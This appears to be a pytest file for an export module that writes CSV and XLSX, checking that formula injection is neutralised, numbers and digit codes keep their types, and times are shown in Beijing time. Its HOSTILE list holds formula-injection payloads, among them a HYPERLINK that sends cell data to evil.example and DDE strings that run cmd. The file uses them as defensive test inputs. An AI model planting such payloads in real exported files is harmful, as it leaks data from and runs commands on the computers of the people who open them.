"""The one export cell writer: formulas neutralised in CSV and XLSX (OWASP's rule), numbers
kept as numbers, digit codes kept as text."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.core import sheets

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2,"点击查看")', "=1+1", "+1+1",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "＝1+1", "＋1", "－1", "＠SUM(A1)"]


def xlsx_cells(rows, headers=("a",)) -> list[list]:
    handle = io.BytesIO()
    sheets.write_table(handle, "xlsx", title="t", headers=headers, rows=rows)
    handle.seek(0)
    sheet = load_workbook(handle).active
    return [list(r) for r in sheet.iter_rows(min_row=2)]


def sheet_xml(rows) -> str:
    handle = io.BytesIO()
    sheets.write_table(handle, "xlsx", title="t", headers=["a"], rows=rows)
    with zipfile.ZipFile(handle) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def csv_rows(rows, headers=("a",)) -> list[list[str]]:
    handle = io.BytesIO()
    sheets.write_table(handle, "csv", title="t", headers=headers, rows=rows)
    text = handle.getvalue().decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the Chinese text as UTF-8
    return list(csv.reader(io.StringIO(text[1:])))[1:]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_text_is_a_quote_prefixed_text_cell_in_xlsx(text):
    (cell,), = xlsx_cells([[text]])
    assert cell.data_type == "s" and cell.value == text
    assert cell.quotePrefix  # stays text when someone edits the cell
    assert "<f>" not in sheet_xml([[text]])


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_text_gets_a_leading_apostrophe_in_csv(text):
    assert csv_rows([[text]]) == [["'" + text]]


def test_a_header_cannot_be_a_formula_either():
    handle = io.BytesIO()
    sheets.write_table(handle, "csv", title="t", headers=["=1+1"], rows=[])
    assert handle.getvalue().decode("utf-8-sig").splitlines()[0] == "'=1+1"
    assert "<f>" not in sheet_xml([]) and xlsx_cells([], headers=["=1+1"]) == []


def test_numbers_stay_numbers_negative_ones_too():
    cells = xlsx_cells([[12, -3.5, Decimal("2.25"), 0]], headers=("a", "b", "c", "d"))[0]
    assert [(c.value, c.data_type) for c in cells] == [(12, "n"), (-3.5, "n"), (2.25, "n"),
                                                       (0, "n")]
    assert not any(c.quotePrefix for c in cells)
    assert csv_rows([[12, -3.5, Decimal("2.25"), 0]]) == [["12", "-3.5", "2.25", "0"]]


def test_digit_codes_are_text_in_xlsx_and_tab_led_in_csv():
    codes = ["913205834308879414", "13812345678", "0512"]
    cells = xlsx_cells([codes], headers=("a", "b", "c"))[0]
    assert [(c.value, c.data_type) for c in cells] == [(code, "s") for code in codes]
    assert csv_rows([codes]) == [["\t" + code for code in codes]]


def test_ordinary_text_is_written_as_typed():
    text = ["昆山鼎鑫电子有限公司", "KS2026-000123", "138****5678", "a=b", "3.50"]
    assert [c.value for c in xlsx_cells([text], headers="abcde")[0]] == text
    assert csv_rows([text]) == [text]


def test_times_are_beijing_time_without_a_zone_and_empty_cells_stay_empty():
    at = datetime(2026, 3, 2, 2, 0, 30, 123, tzinfo=UTC)
    cells = xlsx_cells([[at, date(2026, 3, 2), None]], headers="abc")[0]
    assert cells[0].value == datetime(2026, 3, 2, 10, 0, 30)
    assert cells[1].value.date() == date(2026, 3, 2) and cells[2].value is None
    assert csv_rows([[at, date(2026, 3, 2), None]]) == [["2026-03-02 10:00:30", "2026-03-02",
                                                         ""]]


def test_csv_decimals_as_asked_and_rows_counted():
    handle = io.BytesIO()
    count = sheets.write_table(handle, "csv", title="t", headers=["a"], rows=[[1.25], [2.0]],
                               float_format=".1f")
    assert count == 2
    assert handle.getvalue().decode("utf-8-sig").splitlines()[1:] == ["1.2", "2.0"]


def test_sheet_titles_excel_refuses_are_cleaned():
    handle = io.BytesIO()
    title = "报表: 2026/03 [全部] 以及更多更多更多更多更多更多的文字"
    sheets.write_table(handle, "xlsx", title=title, headers=["a"], rows=[])
    handle.seek(0)
    title = load_workbook(handle).active.title
    assert len(title) <= 31 and not set(title) & set("[]:*?/\\")
